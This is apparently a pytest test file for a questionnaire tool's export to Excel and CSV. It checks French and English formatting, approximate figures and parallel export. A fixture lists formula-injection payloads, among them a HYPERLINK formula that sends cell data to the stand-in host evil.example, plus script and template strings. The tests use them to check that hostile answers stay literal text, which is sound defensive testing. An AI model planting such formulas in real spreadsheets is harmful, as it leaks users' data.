"""`export`: answers files as a workbook or CSV files, read back as a consultant's spreadsheet
would read them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

import pytest
from conftest import DATA, EXAMPLE, SAINT_IVY
from openpyxl import load_workbook

LISTS = [
    "communes",
    "participants",
    "sources",
    "needs",
    "resources",
    "partners",
    "funding",
    "open_questions",
    "vision_words",
    "axes",
    "actions",
    "indicators",
    "measures",
    "risks",
]


def sheet_rows(path: Path, sheet: str) -> list[dict[str, object]]:
    """The rows of a sheet as {header: value}."""
    ws = load_workbook(path)[sheet]
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def csv_rows(path: Path) -> tuple[str, list[dict[str, str]]]:
    """The raw text and the rows of a CSV file written for French Excel."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would read Ã©"
    text = raw.decode("utf-8-sig")
    return text, list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture
def portfolio(tmp_path: Path) -> Path:
    """Two valid territories, a broken file and a file with a validation error."""
    folder = tmp_path / "answers"
    folder.mkdir()
    shutil.copy(EXAMPLE, folder / "val-d-orbiere.yaml")
    (folder / "pays-de-lorm.yaml").write_text(
        "questionnaire: territoire\nquestionnaire_version: 1\nlanguage: en\nstatus: draft\n"
        "answers:\n  territory_name: Pays de Lorm\n  population: 8400\n"
        "  needs:\n    - id: N1\n      title: Clean water\n      domain: environnemental\n"
        "      priority: 3\n"
        # what version 2 changed: one lead became several, amounts say they are annual
        "  partners:\n    - {id: P1, name: Lorm town hall, actor_type: collectivite}\n"
        "  funding:\n    - {id: F1, funder: Region, source: subventions, amount: 12000}\n"
        "  actions:\n    - {id: A1, title: A shared well, lead_partner: P1}\n",
        encoding="utf-8",
    )
    (folder / "haute-vallee.yaml").write_text(
        "questionnaire: territoire\nlanguage: fr\nanswers:\n  needs:\n    - id: N1\n"
        "      title: Eau\n      priority: 9\n",
        encoding="utf-8",
    )
    (folder / "cassé.yaml").write_text(
        "questionnaire: territoire\nanswers:\n  population: [\n", encoding="utf-8"
    )
    return folder


def test_a_portfolio_exports_to_one_workbook_and_bad_files_are_left_out(
    cli, portfolio: Path, tmp_path: Path
) -> None:
    out = tmp_path / "portefeuille.xlsx"
    result = cli("export", portfolio, "-o", out, "--lang", "fr")
    assert result.code == 3, result.err
    assert f"Exported 2 answers files to {out}" in result.out
    assert "haute-vallee.yaml:7:17: needs[N1].priority: « 9 » n'est pas un choix" in result.err
    assert "Hint: see every problem with: coconstruct validate" in result.err
    assert "cassé.yaml:" in result.err
    assert "2 files left out (see above)" in result.err
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["answers", *LISTS]
    answers = sheet_rows(out, "answers")
    assert [row["Nom du territoire"] for row in answers] == [
        "Pays de Lorm",
        "Communauté de communes du Val d'Orbière",
    ]
    # the sheets report what each row comes from
    lorm = answers[0]
    assert lorm["Territoire"] == "Pays de Lorm"
    assert lorm["Fichier"] == str(portfolio / "pays-de-lorm.yaml")
    # written for version 1 (what `migrate` would update), exported as read: migrated
    assert lorm["Version du questionnaire"] == 1
    lorm_action = sheet_rows(out, "actions")[0]
    assert lorm_action["Territoire"] == "Pays de Lorm"
    assert lorm_action["Porteurs de l’action"] == "P1"
    assert lorm_action["Version du questionnaire"] == 1
    assert sheet_rows(out, "funding")[0]["Récurrence"] == "Chaque année"
    assert lorm["Statut du fichier"] == "brouillon"
    assert answers[1]["Statut du fichier"] == "final"
    assert "Exported" in result.out and "needs" in result.out


def test_cells_are_typed_and_labelled_in_the_chosen_language(
    cli, example: Path, tmp_path: Path
) -> None:
    out = tmp_path / "val.xlsx"
    assert cli("export", example, "-o", out, "--lang", "fr").code == 0
    workbook = load_workbook(out)
    answers = workbook["answers"]
    header = [c.value for c in answers[1]]
    row = {h: c for h, c in zip(header, answers[2], strict=True)}
    # numbers and dates are the spreadsheet's own, formatted as French Excel shows them
    assert row["Population du territoire"].value == 23180
    assert row["Population du territoire"].number_format == "#,##0"
    assert row["Date de l’atelier"].value == dt.datetime(2026, 11, 19)
    assert row["Date de l’atelier"].number_format == "DD/MM/YYYY"
    assert row["Salariés du projet (équivalents temps plein)"].value == 6.5
    assert row["Part visée des financements publics"].value == 0.5  # shown 50 %
    assert row["Part visée des financements publics"].number_format == "0.0#%"
    assert row["Valorisation du bénévolat"].value == 110400
    # one format per column: a money column shows cents in every cell, as one with cents would
    assert row["Valorisation du bénévolat"].number_format == '#,##0.00 "€"'
    assert row["Convention de partenariat signée ?"].value is False
    # a choice is its label; several are separated by semicolons (a label may hold a comma)
    assert row["Type de périmètre"].value == "Intercommunalité (EPCI)"
    assert row["Objectifs de développement durable visés"].value.startswith(
        "ODD 6 – Eau propre et assainissement; ODD 8 – Travail décent et croissance économique; "
    )
    assert row["Besoins du territoire"].value == 12  # a list: how many items
    assert row["Code officiel du territoire"].value == "200071841"  # text stays text

    needs = sheet_rows(out, "needs")
    assert needs[0]["Id"] == "N1"
    assert needs[0]["Intitulé du besoin"] == "Se déplacer sans voiture"
    assert needs[0]["Domaine"] == "Sociétal"
    assert needs[0]["Priorité"] == 5  # a level: a number, it sorts and averages
    funding = workbook["funding"]
    header = [c.value for c in funding[1]]
    line = {h: c for h, c in zip(header, funding[2], strict=True)}
    assert line["Montant"].value == 640000 and line["Montant"].number_format == '#,##0.00 "€"'
    assert line["Financement acquis ?"].value is True
    actions = sheet_rows(out, "actions")
    assert actions[0]["Besoins servis"] == "N1, N3"  # references: the ids of the needs sheet
    assert actions[0]["Début"] == dt.datetime(2027, 3, 1)
    assert actions[0]["Porteurs de l’action"] == "P6, P1"  # several leads, in their order

    english = tmp_path / "val-en.xlsx"
    assert cli("export", example, "-o", english, "--lang", "en").code == 0
    needs_en = sheet_rows(english, "needs")
    assert list(needs_en[0])[:4] == ["Territory", "Id", "Need", "Domain"]
    assert needs_en[0]["Domain"] == "Societal"
    answers_en = load_workbook(english)["answers"]
    header_en = [c.value for c in answers_en[1]]
    row_en = {h: c for h, c in zip(header_en, answers_en[2], strict=True)}
    assert row_en["Workshop date"].number_format == "YYYY-MM-DD"
    funding_en = load_workbook(english)["funding"]
    assert funding_en["F1"].value == "Amount"
    assert funding_en["F2"].number_format == '"€"#,##0.00'


def test_sheets_are_ready_to_filter(cli, example: Path, tmp_path: Path) -> None:
    out = tmp_path / "val.xlsx"
    assert cli("export", example, "-o", out).code == 0
    workbook = load_workbook(out)
    for name in workbook.sheetnames:
        ws = workbook[name]
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert all(cell.font.b for cell in ws[1])
    partners = workbook["partners"]
    assert partners.freeze_panes == "C2"  # the header row, the territory and the id stay in view
    assert workbook["answers"].freeze_panes == "B2"
    widths = {k: d.width for k, d in partners.column_dimensions.items()}
    assert widths["B"] < widths["C"] <= 62  # the id is narrow, the names wider, text capped


def spaced(value: object) -> object:
    """Text with babel's no-break spaces as plain ones (`30 000 €`)."""
    return value.replace("\u00a0", " ").replace("\u202f", " ") if isinstance(value, str) else value


def exported(cli, source: Path, out: Path, fmt: str, lang: str, sheet: str) -> dict[str, dict]:
    """A sheet's rows by item id, as a spreadsheet reads them (CSV: the text of each cell)."""
    target = out / "export.xlsx" if fmt == "xlsx" else out / "csv"
    result = cli("export", source, "-o", target, "-f", fmt, "--lang", lang)
    assert result.code == 0, result.err
    if fmt == "xlsx":
        rows = sheet_rows(target, sheet)
    else:
        text = (target / f"{sheet}.csv").read_bytes().decode("utf-8-sig")
        delimiter = ";" if lang == "fr" else ","
        rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
    return {str(row["Id"]): {k: spaced(v) for k, v in row.items()} for row in rows}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_approximate_answers_are_said_never_a_wrong_number_or_a_made_up_day(
    cli, tmp_path: Path, fmt: str
) -> None:
    """Saint-Ivy: amounts not published, an estimate, a range, years, months and quarters."""
    xlsx = fmt == "xlsx"
    funding = exported(cli, SAINT_IVY, tmp_path / "fr", fmt, "fr", "funding")
    kind = "Montant — nature du chiffre"
    # the figure column holds numbers only (it sums); its kind says what each one is
    assert (funding["F1"]["Montant"], funding["F1"][kind]) == (None if xlsx else "", "inconnu")
    assert (funding["F5"]["Montant"], funding["F5"][kind]) == (
        30000 if xlsx else "30000",
        "estimation",
    )
    assert (funding["F3"]["Montant"], funding["F3"][kind]) == (
        80000 if xlsx else "80000",
        "exact",
    )
    # a year is a number, not 01/01/2017
    assert funding["F1"]["Année ou début de la période"] == (2017 if xlsx else "2017")
    actions = exported(cli, SAINT_IVY, tmp_path / "fr", fmt, "fr", "actions")
    assert actions["A1"]["Début"] == (2016 if xlsx else "2016")  # a year, not 01/01/2016
    assert actions["A1"]["Fin ou premier bilan"] == "mars 2017"
    assert actions["A4"]["Début"] == "oct. 2019"
    assert actions["A4"]["Fin ou premier bilan"] == "T2 2020"
    budget = actions["A6"]
    assert budget["Budget de l’action"] == (15000 if xlsx else "15000")
    assert budget["Budget de l’action — nature du chiffre"] == "fourchette"
    assert budget["Budget de l’action — jusqu’à"] == (20000 if xlsx else "20000")
    assert actions["A1"]["Porteurs de l’action"] == "P1, P2, P3"

    funding = exported(cli, SAINT_IVY, tmp_path / "en", fmt, "en", "funding")
    kind = "Amount — kind of figure"
    assert (funding["F1"]["Amount"], funding["F1"][kind]) == (None if xlsx else "", "unknown")
    assert (funding["F5"]["Amount"], funding["F5"][kind]) == (
        30000 if xlsx else "30000",
        "estimate",
    )
    assert funding["F3"]["Amount"] == (80000 if xlsx else "80000")
    actions = exported(cli, SAINT_IVY, tmp_path / "en", fmt, "en", "actions")
    assert actions["A1"]["End or first review"] == "Mar 2017"
    assert (actions["A4"]["Start"], actions["A4"]["End or first review"]) == ("Oct 2019", "Q2 2020")
    assert actions["A6"]["Action budget"] == (15000 if xlsx else "15000")
    assert actions["A6"]["Action budget — kind of figure"] == "range"
    assert actions["A6"]["Action budget — up to"] == (20000 if xlsx else "20000")
    # a day is a date, whatever the file holds beside it
    day = exported(cli, EXAMPLE, tmp_path / "day", fmt, "en", "actions")["A1"]["Start"]
    assert day == (dt.datetime(2027, 3, 1) if xlsx else "2027-03-01")


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "{{ 7*7 }}",
    "<script>alert(1)</script>",
    "Mécénat, « compétences »",
]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    lines = [
        "questionnaire: territoire",
        "language: fr",
        "answers:",
        '  territory_name: "=1+1"',
        "  partners:",
    ]
    for index, name in enumerate(HOSTILE, 1):
        quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
        quoted = quoted.replace("\r", "\\r")
        lines += [f"    - id: P{index}", f'      name: "{quoted}"', "      actor_type: association"]
    path = tmp_path / "hostile.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_hostile_answers_stay_literal_text_in_the_workbook(
    cli, hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "hostile.xlsx"
    result = cli("export", hostile, "-o", out)
    assert result.code == 0, result.err
    ws = load_workbook(out)["partners"]
    cells = [row[2] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    for cell in cells:
        assert cell.data_type == "s", f"{cell.value!r} is not text"
        # Excel's own mark for text that looks like a formula: shown as typed, kept as text
        assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert load_workbook(out)["answers"]["A2"].value == "=1+1"
    assert load_workbook(out)["answers"]["A2"].data_type == "s"


def test_hostile_answers_are_neutralised_in_csv(cli, hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    assert cli("export", hostile, "-o", out, "--format", "csv", "--lang", "fr").code == 0
    _, rows = csv_rows(out / "partners.csv")
    names = [row["Nom"] for row in rows]
    assert names == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        "'+33 6 12 34 56 78",
        "'-2+3",
        "'@SUM(A1:A2)",
        "'\t=1+1",
        "'\r=1+1",
        "#N/A",
        "{{ 7*7 }}",
        "<script>alert(1)</script>",
        "Mécénat, « compétences »",
    ]
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)


def test_csv_is_written_for_the_language_s_excel(cli, example: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = cli("export", example, "-o", out, "--format", "csv", "--lang", "fr")
    assert result.code == 0, result.err
    assert sorted(p.name for p in out.iterdir()) == sorted(
        f"{name}.csv" for name in ["answers", *LISTS]
    )
    text, rows = csv_rows(out / "answers.csv")
    assert "\r\n" in text
    row = rows[0]
    assert row["Population du territoire"] == "23180"  # no grouping: Excel reads a number
    assert row["Salariés du projet (équivalents temps plein)"] == "6,5"
    assert row["Date de l’atelier"] == "19/11/2026"
    assert row["Part visée des financements publics"] == "50%"
    assert row["Convention de partenariat signée ?"] == "Non"
    assert row["Type de périmètre"] == "Intercommunalité (EPCI)"
    _, partners = csv_rows(out / "partners.csv")
    assert "\n" in partners[0]["Apport au projet"]  # multi-line text kept, quoted

    english = tmp_path / "csv-en"
    assert cli("export", example, "-o", english, "-f", "csv", "--lang", "en").code == 0
    text = (english / "answers.csv").read_bytes().decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text, newline=""), delimiter=","))
    assert row["Project employees (full-time equivalents)"] == "6.5"
    assert row["Workshop date"] == "2026-11-19"
    assert row["Partnership agreement signed?"] == "No"


def test_nothing_exported_keeps_the_previous_workbook(cli, portfolio: Path, tmp_path: Path) -> None:
    out = tmp_path / "portefeuille.xlsx"
    out.write_bytes(b"previous")
    result = cli("export", portfolio / "haute-vallee.yaml", "nowhere.yaml", "-o", out)
    assert result.code == 1
    assert "nowhere.yaml: no such file or folder" in result.err
    assert "Nothing exported" in result.err
    assert out.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".coconstruct-")] == []


def test_output_options_are_checked_before_any_work(cli, example: Path, tmp_path: Path) -> None:
    result = cli("export", example, "-o", tmp_path / "out.ods")
    assert result.code == 2
    assert "give a .xlsx file, or a folder with --format csv" in result.err
    assert cli("export", example, "-o", tmp_path / "x.xlsx", "-f", "pdf").code == 2


def test_files_of_several_questionnaires_share_the_sheets(
    cli, example: Path, tmp_path: Path
) -> None:
    shutil.copy(DATA / "mini.yaml", tmp_path / "mini.yaml")
    other = tmp_path / "autre.yaml"
    other.write_text(
        "questionnaire: mini.yaml\nlanguage: fr\nanswers:\n  territory_name: Autre\n",
        encoding="utf-8",
    )
    out = tmp_path / "mix.xlsx"
    result = cli("export", example, other, "-o", out, "--lang", "fr")
    assert result.code == 0, result.err
    answers = sheet_rows(out, "answers")
    assert [r["Territoire"] for r in answers] == [
        "Communauté de communes du Val d'Orbière",
        "Autre",
    ]
    # a question of one questionnaire only is an empty cell for the other's files
    assert answers[1]["Population du territoire"] is None
    assert "Type de territoire" in answers[0] and answers[0]["Type de territoire"] is None


def test_many_files_export_in_parallel_as_they_do_in_one_process(
    cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from coconstruct.batch import reading
    from coconstruct.tables import export

    monkeypatch.setattr(reading, "PARALLEL_FROM", 2)  # workers for a handful of small files
    folder = tmp_path / "many"
    folder.mkdir()
    for index in range(6):
        (folder / f"t{index}.yaml").write_text(
            f"questionnaire: territoire\nlanguage: fr\nanswers:\n  territory_name: T{index}\n"
            f"  needs:\n    - id: N1\n      title: Besoin {index}\n"
            f"      priority: {index % 5 + 1}\n    - {{id: N2, title: Autre}}\n",
            encoding="utf-8",
        )
    (folder / "t3.yaml").write_text("questionnaire: territoire\nanswers: [\n", encoding="utf-8")
    one, two = tmp_path / "one.xlsx", tmp_path / "two.xlsx"
    assert cli("export", folder, "-o", one, "-j", "1").code == 3
    monkeypatch.setattr(export, "_context", {})  # set where files are exported: not here
    result = cli("export", folder, "-o", two, "-j", "2")
    assert result.code == 3
    assert export._context == {}, "the workers did not export: the main process did"
    assert "t3.yaml:" in result.err
    for sheet in ["answers", "needs"]:
        assert sheet_rows(one, sheet) == sheet_rows(two, sheet)
    needs = sheet_rows(two, "needs")
    assert [(r["Territory"], r["Id"]) for r in needs] == [
        (f"T{i}", n) for i in (0, 1, 2, 4, 5) for n in ("N1", "N2")
    ]


def test_a_file_left_out_is_named_as_validate_names_it(cli, tmp_path: Path) -> None:
    """Read for reading only, a file's problems still come with the full parser's positions
    (an empty value is placed differently by libyaml)."""
    path = tmp_path / "vide.yaml"
    path.write_text("questionnaire: territoire\nlanguage:\nanswers:\n  population: 12\n")
    checked = cli("validate", path)
    first = checked.out.splitlines()[0]
    assert first.startswith(f"{path}:3:1: language: ")
    exported = cli("export", path, "-o", tmp_path / "x.xlsx")
    assert exported.code == 1
    assert exported.err.splitlines()[0] == f"✗ {first}"


def test_a_worker_that_dies_costs_no_file(
    cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker killed (out of memory, kill -9) takes its pool down: the files in flight and
    the rest are exported in the main process."""
    import concurrent.futures
    from concurrent.futures import Future
    from concurrent.futures.process import BrokenProcessPool

    from coconstruct.batch import reading

    class DyingPool:
        """Exports the first three files, then dies as a pool whose worker was killed."""

        def __init__(self, *args: object, initializer, initargs, **kwargs: object) -> None:
            initializer(*initargs[:-1], False)
            self.submitted = 0

        def submit(self, function, *args: object) -> Future:
            self.submitted += 1
            if self.submitted > 6:
                raise BrokenProcessPool("a child process terminated abruptly")
            future: Future = Future()
            if self.submitted <= 3:
                future.set_result(function(*args))
            else:
                future.set_exception(BrokenProcessPool("a child process terminated abruptly"))
            return future

        def shutdown(self, **kwargs: object) -> None:
            pass

    monkeypatch.setattr(concurrent.futures, "ProcessPoolExecutor", DyingPool)
    monkeypatch.setattr(reading, "PARALLEL_FROM", 2)
    folder = tmp_path / "many"
    folder.mkdir()
    for index in range(12):
        (folder / f"t{index:02}.yaml").write_text(
            f"questionnaire: territoire\nlanguage: fr\nanswers:\n  territory_name: T{index}\n",
            encoding="utf-8",
        )
    out = tmp_path / "out.xlsx"
    result = cli("export", folder, "-o", out, "-j", "2")
    assert result.code == 0, result.err
    assert [r["Territory"] for r in sheet_rows(out, "answers")] == [f"T{i}" for i in range(12)]


def test_ctrl_c_writes_nothing(
    cli, portfolio: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from coconstruct.tables import export

    exported = export.export_one

    def interrupted(source: str) -> object:
        if source.endswith("val-d-orbiere.yaml"):
            raise KeyboardInterrupt
        return exported(source)

    monkeypatch.setattr(export, "export_one", interrupted)
    out = tmp_path / "portefeuille.xlsx"
    out.write_bytes(b"previous")
    result = cli("export", portfolio, "-o", out, "-j", "1")
    assert result.code == 130
    assert result.err == "Interrupted: nothing was written.\n"
    assert out.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".coconstruct-")] == []


def test_a_file_the_fast_reader_refuses_is_named_in_the_full_parsers_words(
    cli, tmp_path: Path
) -> None:
    """libyaml stops at the same place for another reason (`answers: a mapping is expected`):
    the message is `validate`'s."""
    from test_hostile_answers import HOSTILE

    path = tmp_path / "bloc.yaml"
    path.write_bytes(HOSTILE["comment-for-a-block"][0])
    first = cli("validate", path).out.splitlines()[0]
    assert first.startswith(f"{path}:7:1: this YAML cannot be read")
    exported = cli("export", path, "-o", tmp_path / "x.xlsx")
    assert exported.err.splitlines()[0] == f"✗ {first}"


def test_a_family_never_written_is_exported_as_the_roadmap_computes_it(cli, tmp_path: Path) -> None:
    answers = tmp_path / "site.yaml"
    shutil.copy(EXAMPLE, answers)
    # as `set` and `import` leave it: a source, no family in the file (one command: the example
    # is final, and a line without its source would leave it invalid)
    lines = ("funding[+].funder=Région", "funding[+].source=subventions", "funding[+].amount=1000")
    assert cli("set", answers, *lines).code == 0
    assert "F12" in answers.read_text(encoding="utf-8")
    assert "family" not in answers.read_text(encoding="utf-8").split("id: F12")[1]
    out = tmp_path / "out.xlsx"
    assert cli("export", answers, "-o", out, "--lang", "fr").code == 0, "export"
    funding = {row["Id"]: row for row in sheet_rows(out, "funding")}
    assert funding["F12"]["Famille de financement"] == "Financements publics"
    assert funding["F11"]["Famille de financement"] == "Financements publics"
    assert all(row["Famille de financement"] for row in funding.values())
    shown = cli("show", answers, "--all", "--lang", "fr").out
    assert "Financements publics" in shown
